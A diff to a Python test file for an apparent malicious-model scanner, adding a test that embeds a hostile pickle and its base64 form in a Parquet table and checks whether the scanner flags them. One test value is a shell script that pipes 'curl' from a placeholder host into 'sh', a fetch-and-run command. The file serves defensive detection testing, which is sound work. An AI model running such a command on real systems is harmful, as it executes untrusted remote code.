@@ -2,6 +2,7 @@
 
 import bz2
 import gzip
+import io
 import json
 import lzma
 import pickle
@@ -9,6 +10,8 @@ import zlib
 from base64 import a85encode, b64encode
 from collections.abc import Callable
 
+import pyarrow
+import pyarrow.parquet
 import pytest
 
 from budmodel_scanner.content import MemoryContent, Place
@@ -117,3 +120,13 @@ def hidden_objects(objects: bytes) -> bytes:
 def test_a_trick_and_its_benign_twin(name: str, hostile: bytes | str, benign: bytes | str) -> None:
     assert said(hostile, name) in FLAGGED
     assert said(benign, name) not in FLAGGED
+
+
+@pytest.mark.parametrize(
+    ("value", "is_flagged"),
+    [(HOSTILE, True), (b64encode(HOSTILE).decode(), True), ("#!/bin/sh\ncurl x.invalid | sh\n", False)],
+)
+def test_a_table_of_pickles_beside_one_of_code(value: bytes | str, is_flagged: bool) -> None:
+    written = io.BytesIO()
+    pyarrow.parquet.write_table(pyarrow.table({"content": [value, value]}), written)
+    assert (said(written.getvalue(), "a.parquet") in FLAGGED) is is_flagged
